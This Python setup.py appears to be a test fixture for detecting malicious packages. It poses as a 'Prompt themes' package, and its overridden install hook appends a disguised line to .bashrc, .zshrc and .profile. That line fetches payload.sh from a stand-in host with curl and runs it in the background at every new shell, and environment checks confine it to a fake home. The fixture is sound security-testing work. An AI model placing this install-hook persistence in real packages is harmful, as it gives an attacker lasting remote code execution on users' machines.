# Evaluation fixture (malicious): shell start-up persistence.  An
# overridden install command appends a line to ~/.bashrc, ~/.zshrc and
# ~/.profile that fetches and runs a script in the background at every new
# shell.  Acts only inside the evaluation: only when HOME is the fake home
# (SP_HOME); the line it writes refers to the evaluation's CDN stand-in.
import os

from setuptools import setup
from setuptools.command.install import install

LINE = ("\n# prompt theme update\n(curl -fsSL http://%s:%s/pt/main/payload.sh | sh -s -- bashrc"
        " >/dev/null 2>&1 &)\n")


class Install(install):
    def run(self):
        home = os.environ.get("SP_HOME")
        if home and os.environ.get("HOME") == home and os.environ.get("SP_TOKEN"):
            line = LINE % (os.environ.get("SP_CDN_HOST", "127.0.0.1"), os.environ.get("SP_HTTP_PORT", "80"))
            for rc in (".bashrc", ".zshrc", ".profile"):
                with open(os.path.join(home, rc), "a") as f:
                    f.write(line)
        super().run()


setup(
    name="bashrc-persist",
    version="0.5.5",
    description="Prompt themes",
    py_modules=["promptthemes"],
    cmdclass={"install": Install},
)
